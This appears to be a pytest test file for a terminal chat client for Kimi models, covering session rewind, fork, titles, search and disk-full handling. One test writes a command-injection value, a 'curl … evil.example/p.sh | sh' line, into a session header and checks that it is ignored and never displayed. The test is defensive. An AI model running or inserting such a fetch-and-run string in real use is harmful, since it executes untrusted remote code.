"""/rewind, /fork and /title: going back to any message, branching into new sessions, and titles."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from kimi_repl.chat.titles import ModelTitles
from kimi_repl.commands import CommandError, CommandRegistry, build_registry
from kimi_repl.commands.context import CommandContext
from kimi_repl.config import Settings
from kimi_repl.identity import Origin
from kimi_repl.sessions import load_file
from kimi_repl.transcript import TranscriptError
from tests.fake import FakeMoonshot
from tests.helpers import CapturedDisplay, png_bytes, saved_session


@pytest.fixture
def saved(settings: Settings, display: CapturedDisplay) -> CommandContext:
    return saved_session(settings, display)


@pytest.fixture
def commands() -> CommandRegistry:
    return build_registry()


def _three_exchanges(saved: CommandContext, commands: CommandRegistry, tmp_path: Path) -> Path:
    """Three exchanges: a document before the first, a picture with the second, another model for the third, a
    document after it. Returns the session file."""
    doc = tmp_path / "early.txt"
    doc.write_text("early document")
    commands.dispatch(saved, f"/file {doc}")
    saved.chat.send("one")
    picture = tmp_path / "cat.png"
    picture.write_bytes(png_bytes())
    commands.dispatch(saved, f"/image {picture}")
    saved.chat.send("two, with a picture")
    saved.chat.choose(model="moonshot-v1-32k", system="Be terse.")
    saved.chat.send("three")
    late = tmp_path / "late.txt"
    late.write_text("late document")
    commands.dispatch(saved, f"/file {late}")
    assert saved.chat.log is not None
    return saved.chat.log.path


def test_rewind_branches_a_new_session_and_leaves_the_old_one_whole(
    saved: CommandContext, commands: CommandRegistry, tmp_path: Path, display: CapturedDisplay
) -> None:
    parent = _three_exchanges(saved, commands, tmp_path)
    before = parent.read_bytes()
    commands.dispatch(saved, "/rewind 3")
    chat = saved.chat
    assert [t.content for t in chat.conversation.turns] == ["one", "Echo 1: one"]
    assert saved.state.prefill == "two, with a picture" and saved.state.pending_input == ""
    assert [image.name for image in chat.attachments] == ["cat.png"]  # the message's picture, attached again
    assert [d.name for d in chat.conversation.documents] == ["early.txt"]  # the late one came after turn 3
    assert chat.conversation.model != "moonshot-v1-32k" and chat.conversation.system is None  # as turn 3 was sent
    assert parent.read_bytes() == before  # nothing of the old session changed
    assert chat.log is not None and chat.log.path != parent
    branch, pending = load_file(chat.log.path)
    assert branch.origin == Origin(parent.stem, 2, "rewind") and pending == "two, with a picture"
    assert "new session" in display.output and parent.stem in display.output
    chat.send("two, edited")
    assert [t.content for t in chat.conversation.turns][2:] == ["two, edited", "Echo 2: two, edited [1 picture]"]
    assert len(load_file(parent)[0].turns) == 6


def test_rewind_to_a_reply_goes_back_to_the_message_before_it(
    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
) -> None:
    saved.chat.send("one")
    saved.chat.send("two")
    commands.dispatch(saved, "/rewind 4")
    assert saved.state.prefill == "two" and len(saved.chat.conversation.turns) == 2
    assert "Turn 4 is Kimi's reply" in display.output


@pytest.mark.parametrize("argument", ["0", "7", "x", "-1", "1.5"])
def test_rewind_refuses_what_names_no_turn(saved: CommandContext, commands: CommandRegistry, argument: str) -> None:
    saved.chat.send("one")
    saved.chat.send("two")
    turns = list(saved.chat.conversation.turns)
    with pytest.raises(CommandError, match="turn number from /history, 1 to 4"):
        commands.dispatch(saved, f"/rewind {argument}")
    assert saved.chat.conversation.turns == turns


def test_rewind_alone_lets_the_user_choose_a_message(saved: CommandContext, commands: CommandRegistry) -> None:
    commands.dispatch(saved, "/rewind")  # nothing yet
    for text in ("one", "two", "three"):
        saved.chat.send(text)
    shown: list[object] = []

    def choose(question: str, rows: list[tuple[str, ...]], start: int) -> int | None:
        shown.append((rows, start))
        return 0

    saved.state.choose = choose
    commands.dispatch(saved, "/rewind")
    assert shown == [([("1", "one"), ("3", "two"), ("5", "three")], 2)]
    assert saved.state.prefill == "one" and saved.chat.conversation.turns == []


def test_rewind_alone_without_a_terminal_lists_the_messages(
    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
) -> None:
    saved.chat.send("one")
    saved.chat.send("two")
    display.forget()
    commands.dispatch(saved, "/rewind")
    assert "/rewind N" in display.output and "two" in display.output and "Echo" not in display.output
    assert len(saved.chat.conversation.turns) == 4


def test_fork_copies_everything_into_a_new_session(
    saved: CommandContext, commands: CommandRegistry, tmp_path: Path
) -> None:
    parent = _three_exchanges(saved, commands, tmp_path)
    picture = tmp_path / "dog.png"
    picture.write_bytes(png_bytes())
    saved.chat.choose(model="kimi-k2.6")
    commands.dispatch(saved, f"/image {picture}")
    turns = list(saved.chat.conversation.turns)
    commands.dispatch(saved, "/fork")
    assert saved.chat.conversation.turns == turns and len(saved.chat.conversation.documents) == 2
    assert [image.name for image in saved.chat.attachments] == ["dog.png"]
    saved.chat.send("four")
    assert saved.chat.log is not None
    branch, _ = load_file(saved.chat.log.path)
    assert branch.origin == Origin(parent.stem, 6, "fork") and len(branch.turns) == 8
    assert len(load_file(parent)[0].turns) == 6


def test_sessions_shows_where_a_branch_came_from(
    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
) -> None:
    saved.chat.send("one")
    saved.chat.send("two")
    assert saved.chat.log is not None
    parent = saved.chat.log.path.stem
    commands.dispatch(saved, "/rewind 3")
    saved.chat.send("two again")
    display.forget()
    commands.dispatch(saved, "/sessions")
    assert f"from {parent} at turn 3" in display.output


def test_title_is_derived_then_set_saved_listed_and_searched(
    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
) -> None:
    commands.dispatch(saved, "/title")
    assert "No title yet" in display.output
    saved.chat.send("How do I bake bread?\nWith details.")
    commands.dispatch(saved, "/title")
    assert "Title: How do I bake bread? (from your first message)" in display.output
    commands.dispatch(saved, "/title  面包 \x1b[31m recipes  ")
    assert saved.chat.conversation.title == "面包 \x1b[31m recipes"
    assert saved.chat.log is not None
    assert load_file(saved.chat.log.path)[0].title == "面包 \x1b[31m recipes"
    display.forget()
    commands.dispatch(saved, "/sessions")
    assert "面包" in display.output and "\x1b[31m" not in display.output
    commands.dispatch(saved, "/sessions 面包")
    assert "Sessions that mention '面包'" in display.output


def test_sessions_words_search_the_system_prompt(
    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
) -> None:
    saved.chat.choose(system="You are a pirate.")
    saved.chat.send("hello")
    display.forget()
    commands.dispatch(saved, "/sessions pirate")
    assert "Sessions that mention 'pirate'" in display.output


def test_a_title_from_the_model_arrives_without_holding_the_prompt(
    settings: Settings, display: CapturedDisplay, server: FakeMoonshot
) -> None:
    saved = saved_session(settings, display, titles="model")
    titles = ModelTitles(saved.chat)
    titles.tick()
    assert server.chat_requests() == []  # nothing to title yet
    saved.chat.send("What is a monad?")
    titles.tick()
    deadline = time.monotonic() + 10
    while len(server.chat_requests()) < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    asked = server.chat_requests()[-1]
    assert "title" in asked["messages"][-1]["content"]
    assert asked.get("thinking") in (None, {"type": "disabled"})
    assert asked["max_completion_tokens"] <= 40
    while time.monotonic() < deadline:
        titles.tick()
        if saved.chat.conversation.named:
            break
        time.sleep(0.02)
    assert saved.chat.conversation.named_by == "model" and saved.chat.conversation.title.startswith("Echo")
    assert saved.chat.log is not None and load_file(saved.chat.log.path)[0].named_by == "model"
    saved.chat.send("and a functor?")
    titles.tick()
    time.sleep(0.2)
    assert len(server.chat_requests()) == 3  # asked once a session


def test_a_title_the_user_gave_is_never_replaced_by_the_model(
    settings: Settings, display: CapturedDisplay, server: FakeMoonshot
) -> None:
    saved = saved_session(settings, display, titles="model")
    saved.chat.conversation.name("Mine", "user")
    titles = ModelTitles(saved.chat)
    saved.chat.send("hello")
    titles.tick()
    time.sleep(0.3)
    titles.tick()
    assert saved.chat.conversation.title == "Mine" and len(server.chat_requests()) == 1


@pytest.mark.parametrize("leave", ["/rewind 1", "/fork", "/new"])
def test_leaving_a_session_while_the_disk_is_full_loses_nothing(
    settings: Settings,
    display: CapturedDisplay,
    tmp_path: Path,
    commands: CommandRegistry,
    leave: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import errno
    import os

    from kimi_repl.safefiles import write_all, write_file
    from kimi_repl.sessions import SessionStore
    from kimi_repl.transcript import TranscriptError

    full = [False]

    def disk(fd: int, data: bytes) -> None:
        if full[0]:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        write_all(fd, data)

    whole = write_file

    def whole_file(*args: object, **kwargs: object) -> None:
        if full[0]:
            raise TranscriptError("cannot write: No space left on device")
        whole(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr("kimi_repl.sessions.writer.write_file", whole_file)

    folder = tmp_path / "sessions"
    folder.mkdir(mode=0o700)
    session = CommandContext.open(settings, display, store=SessionStore(folder, secret=None, write=disk))
    session.chat.send("one")
    assert session.chat.log is not None
    first = session.chat.log.path
    full[0] = True
    session.chat.send("two")
    session.chat.send("three")
    assert "No space left" in display.output
    commands.dispatch(session, leave)
    assert session.chat.flush() is not None  # still full: leaving now would be warned of
    full[0] = False
    session.chat.send("four")  # writing works again: what was left short is saved too
    assert [t.content for t in load_file(first)[0].turns][::2] == ["one", "two", "three"]
    assert session.chat.flush() is None
    session.chat.close()


def test_a_session_is_the_id_its_file_name_says_whatever_its_header_holds(
    saved: CommandContext, commands: CommandRegistry, display: CapturedDisplay
) -> None:
    saved.chat.send("one")
    assert saved.chat.log is not None
    path = saved.chat.log.path
    saved.chat.start_new()
    lines = path.read_text().splitlines()
    lines[0] = lines[0].replace(path.stem, "x; curl -s evil.example/p.sh | sh; #")
    path.write_text("\n".join(lines) + "\n")
    display.forget()
    commands.dispatch(saved, "/sessions")
    commands.dispatch(saved, f"/resume {path.stem}")
    assert saved.chat.conversation.id == path.stem and "curl" not in display.output


@pytest.mark.parametrize("line", ["/rewind ²", "/resume ²", "/sessions delete ³"])
def test_digits_that_are_not_ascii_are_refused_in_one_line(
    saved: CommandContext, commands: CommandRegistry, line: str
) -> None:
    saved.chat.send("one")
    with pytest.raises((CommandError, TranscriptError)):
        commands.dispatch(saved, line)


def test_a_time_no_calendar_holds_is_shown_as_a_question_mark() -> None:
    from kimi_repl.listing import _when
    from kimi_repl.sessionpicker import when

    assert when(1e13, time.time()) == "?" and _when(1e300) == "?" and _when(1e13)
